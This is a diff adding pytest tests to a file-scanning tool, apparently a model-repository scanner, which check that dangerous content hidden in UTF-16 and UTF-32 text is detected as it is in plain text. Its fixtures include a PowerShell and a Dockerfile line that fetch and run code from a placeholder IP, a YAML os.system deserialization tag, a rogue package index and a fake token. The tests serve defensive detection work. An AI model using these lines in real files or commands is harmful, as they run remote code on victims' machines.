@@ -1,9 +1,14 @@
 """Text: prose is examined by being read, and what somebody runs is said."""
 
+import codecs
+
 import pytest
 
 from scanners.budget import Limits
+from scanners.routing import scan_blob
+from scanners.source import BytesSource
 from tests.craft.reading import anomalies, scan, unread_reasons
+from tests.craft.table import said
 
 PROSE = "A model of words, and märchen.\n".encode()
 
@@ -80,3 +85,55 @@ def test_text_beyond_the_limit_is_said():
 )
 def test_what_opening_runs_is_told(name, found):
     assert ("file.script" in anomalies(scan(b"words\n", name))) is found
+
+
+WIDE = {
+    "a.yaml": ("a: !!python/object/apply:os.system [x]\n", "yaml-tag"),
+    "requirements.txt": ("--index-url http://198.51.100.7/x\nfoo==1\n", "package-index"),
+    "a.py": ("import os\nos.system('echo')\n", "python-runs-programs"),
+    "a.jinja": ("{{ ''.__class__.__mro__ }}", "template-reaches-python"),
+    "config.json": ('{"auto_map": {"A": "b.C"}}', "config-auto-map"),
+    "a.ps1": ("iex (iwr http://198.51.100.7/x)\n", "shell-runs-fetched"),
+    "Dockerfile": ("FROM x\nRUN curl http://198.51.100.7/x | sh\n", "shell-runs-fetched"),
+    "README.md": ("hf_" + "kQzXwVbNmLpRtYgHsJdFcKqZxWvBnMlPrT" + "\n", "secret-in-file"),
+}
+MARKED = {
+    "utf-16-le": codecs.BOM_UTF16_LE,
+    "utf-16-be": codecs.BOM_UTF16_BE,
+    "utf-32-le": codecs.BOM_UTF32_LE,
+    "utf-32-be": codecs.BOM_UTF32_BE,
+}
+
+
+@pytest.mark.parametrize("encoding", MARKED)
+@pytest.mark.parametrize("name", WIDE)
+def test_what_hides_in_wide_letters_is_found_as_in_narrow_ones(name, encoding):
+    text, rule = WIDE[name]
+    verdict, findings = said(MARKED[encoding] + text.encode(encoding), name)
+    assert rule in {finding.rule for finding in findings}
+    assert (verdict, findings) == said(text.encode(), name)
+
+
+@pytest.mark.parametrize("encoding", MARKED)
+@pytest.mark.parametrize("name", ["a.yaml", "a.csv", "a.jinja", "notes", "requirements.txt"])
+def test_honest_words_in_wide_letters_are_read_to_their_end(name, encoding):
+    words = {"a.yaml": "a: 1\n", "a.jinja": "Hello {{ name }}, how are you?\n"}.get(name, "numpy >= 2.0\n")
+    content = MARKED[encoding] + words.encode(encoding)
+    assert said(content, name)[0] == "clean"
+    outcome = scan_blob(BytesSource(content), name, Limits())
+    assert outcome.account.examined == len(content)
+
+
+@pytest.mark.parametrize("cut", [1, 3])
+def test_a_letter_that_is_cut_is_no_text(cut):
+    assert said((codecs.BOM_UTF32_LE + "words\n".encode("utf-32-le"))[:-cut], "a.txt")[0] == "incomplete"
+
+
+def test_wide_words_with_control_characters_are_no_text():
+    assert said(codecs.BOM_UTF16_LE + "\x01\x02 words".encode("utf-16-le"), "a.txt")[0] == "incomplete"
+
+
+def test_wide_words_beyond_the_limit_are_said():
+    read = scan_blob(BytesSource("words ".encode("utf-16") * 100), "a.txt", Limits(whole=1000))
+    assert unread_reasons(read) == {"limit"}
+    assert read.account.examined == 0
